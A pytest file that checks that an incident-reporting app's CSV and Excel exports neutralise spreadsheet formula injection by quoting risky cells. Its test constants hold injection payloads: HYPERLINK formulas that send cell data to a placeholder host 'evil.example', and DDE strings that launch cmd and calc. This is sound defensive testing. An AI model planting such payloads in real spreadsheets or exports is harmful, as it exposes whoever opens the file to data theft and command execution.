"""Formula injection: a text that starts like a spreadsheet formula, typed into a form or read
from an imported file, comes out of every CSV and Excel file as text, never as a formula."""

import csv
import datetime as dt
import io
import re

import openpyxl
import pandas as pd
import pytest

from lagesbild import auth, db
from lagesbild.actor import SYSTEM
from lagesbild.export import tables
from lagesbild.filters import Scope, Window
from lagesbild.importers.mapping import Mapping
from lagesbild.models import Area, Category, CategoryGroup, Organisation, Place
from lagesbild.periods import containing
from lagesbild.queries import summary as summary_queries
from lagesbild.queries.common import Viewer
from lagesbild.reference import seed_default_categories
from lagesbild.services import actions, events, exports, imports, reports

TODAY = dt.date(2026, 11, 21)
NOW = dt.datetime(2026, 11, 21, 20, 0)

# What an attacker types: each would run (or call out) in Excel or LibreOffice if written as is.
ORG = '=HYPERLINK("http://evil.example/?d="&A1;"Öppna")'
SHORT = "@SUM(1+1)*cmd|' /C calc'!A0"
GROUP = "+cmd|' /C notepad'!A0"
CATEGORY = "-2+3+cmd|' /C calc'!A0"
AREA = "@Område(1)"
PLACE = "=1+1 Torget"
REPORTED = '=HYPERLINK("http://evil.example";"Klicka här")'
IMPORTED = "@SUM(A1:A9)"
TITLE = "=cmd|' /C calc'!A0"
ROLE = "-1+1"
EVENT = "+1+1 Marknad"
HOSTILE = [ORG, SHORT, GROUP, CATEGORY, AREA, PLACE, REPORTED, IMPORTED, TITLE, ROLE, EVENT]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("Torget = mötesplats", "Torget = mötesplats"),
        ("", ""),
        ("-4", "-4"),
        ("+13\u00a0%", "+13\u00a0%"),
        ("-1,5", "-1,5"),
        ("-12 345", "-12 345"),
        (-3, -3),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_a_text_that_starts_like_a_formula_gets_a_quote(value, expected):
    assert tables.formula_safe(value) == expected


def test_numbers_stay_numbers_and_headings_are_safe_too():
    df = pd.DataFrame({"=Rubrik": ["=1+1", "ok"], "Förändring": [-3, 4], "Andel": [-1.5, 0.5]})
    book = openpyxl.load_workbook(io.BytesIO(tables.to_excel({"Blad": df}, title="=Titel")))
    sheet = book["Blad"]
    assert sheet["A1"].value == "'=Titel" and sheet["A1"].data_type == "s"
    assert [c.value for c in sheet[3]] == ["'=Rubrik", "Förändring", "Andel"]
    assert sheet["A4"].value == "'=1+1" and sheet["A4"].data_type == "s"
    assert (sheet["B4"].value, sheet["B4"].data_type) == (-3, "n")
    assert (sheet["C4"].value, sheet["C4"].data_type) == (-1.5, "n")
    rows = list(csv.reader(io.StringIO(tables.to_csv(df).decode("utf-8-sig")), delimiter=";"))
    assert rows == [
        ["'=Rubrik", "Förändring", "Andel"],
        ["'=1+1", "-3", "-1,5"],
        ["ok", "4", "0,5"],
    ]
    assert list(df.columns) == ["=Rubrik", "Förändring", "Andel"]  # the caller's table is kept


@pytest.fixture
def forum(engine):
    """A forum whose names and texts all start like formulas: reference data typed by the
    administrator, a report and an action from forms, an event and an imported file."""
    with db.transaction(engine) as s:
        seed_default_categories(s)
        org = Organisation(name=ORG, short_name=SHORT, kind="kommun")
        group = CategoryGroup(name=GROUP, sort_order=99)
        s.add_all([org, group])
        s.flush()
        category = Category(name=CATEGORY, group_id=group.id)
        area = Area(name=AREA)
        s.add_all([category, area])
        s.flush()
        place = Place(name=PLACE, area_id=area.id, lat=55.4716, lon=13.0194)
        s.add(place)
        s.flush()
        user = auth.create_user(
            s,
            SYSTEM,
            username="sam",
            display_name="Samordnare",
            organisation_id=org.id,
            role="samordnare",
            password="ett-langt-losenord",
        )
        chair = auth.actor_for(user)
        ids = {"org": org.id, "category": category.id, "place": place.id}
    with db.transaction(engine) as s:
        reports.create_report(
            s,
            chair,
            [
                reports.IncidentInput(
                    category_id=ids["category"],
                    place_id=ids["place"],
                    occurred_at=NOW - dt.timedelta(days=2),
                    description=REPORTED,
                )
            ],
            now=NOW,
        )
        actions.create_action(
            s,
            chair,
            actions.ActionInput(
                title=TITLE,
                description=REPORTED,
                owner_org_id=ids["org"],
                responsible_role=ROLE,
                place_id=ids["place"],
                due_date=TODAY + dt.timedelta(days=30),
            ),
        )
        events.save_event(
            s,
            chair,
            events.EventInput(
                title=EVENT,
                place_id=ids["place"],
                starts_at=NOW + dt.timedelta(days=3),
                ends_at=NOW + dt.timedelta(days=3, hours=4),
            ),
        )
    content = (
        f"Id;Datum;Typ;Beskrivning;Lat;Lon\nX1;2026-11-20;Klotter;{IMPORTED};55,4716;13,0194\n"
    ).encode()
    with db.transaction(engine) as s:
        table, _, skipped = imports.read_file(s, content, "fil.csv", "Fil")
        mapping = Mapping(
            columns={
                "source_id": "Id",
                "occurred_at": "Datum",
                "category": "Typ",
                "description": "Beskrivning",
                "lat": "Lat",
                "lon": "Lon",
            },
            category_values={"Klotter": ids["category"]},
        )
        report = imports.run_import(
            s,
            chair,
            source="Fil",
            filename="fil.csv",
            table=table,
            mapping=mapping,
            organisation_id=ids["org"],
            pre_skipped=skipped,
        )
        assert report.ok and report.added == 1, [str(e) for e in report.errors]
    return engine, chair


def _cells(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert cells
    return cells


def _assert_safe_excel(data: bytes, expected: list[str]) -> None:
    cells = _cells(data)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for value in expected:
        assert "'" + value in texts, value
    live = [t for t in texts if t.startswith(tables.FORMULA_START)]
    assert [t for t in live if not re.fullmatch(r"[+-][\d\s,%]+", t)] == []


WEEK = Scope(window=Window(NOW - dt.timedelta(days=7), NOW), label="Senaste veckan")
INCIDENT_TEXTS = [REPORTED, IMPORTED, CATEGORY, PLACE, AREA, SHORT, GROUP]


def test_the_incident_csv_is_formula_safe(forum):
    engine, chair = forum
    data = exports.incident_file(engine, chair, Viewer(None, True), WEEK, "csv", "veckan")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    cells = {cell for row in rows for cell in row}
    for value in INCIDENT_TEXTS:
        assert "'" + value in cells and value not in cells, value
    assert len(rows) == 3  # a heading, the report and the imported row


def test_the_incident_excel_is_formula_safe(forum):
    engine, chair = forum
    summaries = {"Per grupp": pd.DataFrame({GROUP: ["=2+2"], "Antal": [-1]})}
    data = exports.incident_file(
        engine, chair, Viewer(None, True), WEEK, "xlsx", "=veckan", summaries
    )
    _assert_safe_excel(data, [*INCIDENT_TEXTS, "=2+2"])
    negative = [c for c in _cells(data) if c.value == -1]
    assert negative and negative[0].data_type == "n"


def test_the_action_plan_excel_is_formula_safe(forum):
    engine, chair = forum
    data = exports.action_plan_file(engine, chair, "xlsx", "=Forum", TODAY)
    _assert_safe_excel(data, [TITLE, SHORT, ROLE, AREA])


def test_the_quarterly_tables_are_formula_safe(forum):
    engine, chair = forum
    s = summary_queries.collect(
        engine,
        viewer=Viewer(None, True),
        period=containing("kvartal", TODAY),
        lat=55.4,
        today=TODAY,
    )
    data = exports.report_file(engine, chair, s, "=Forum", "summary", "xlsx")
    _assert_safe_excel(data, [GROUP, PLACE, AREA, EVENT, ORG])


def test_the_rejected_rows_file_is_formula_safe():
    """The rows an import hands back to be fixed are opened in a spreadsheet too."""
    from lagesbild.importers import reading
    from lagesbild.importers.validate import RowError

    content = (
        "Datum;Kategori;Beskrivning\n"
        'igår;Klotter;"=HYPERLINK(""http://evil.example"";""klicka"")"\n'
    ).encode()
    table = reading.read_table(content, "felanmalan.csv")
    errors = [RowError(row=2, column="Datum", message="Datumet går inte att läsa.", index=0)]
    text = imports.rejected_file(table, errors).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][-1] == "fel"
    assert rows[1][2].startswith("'=HYPERLINK(")
    assert not any(cell.startswith(tables.FORMULA_START) for row in rows for cell in row)
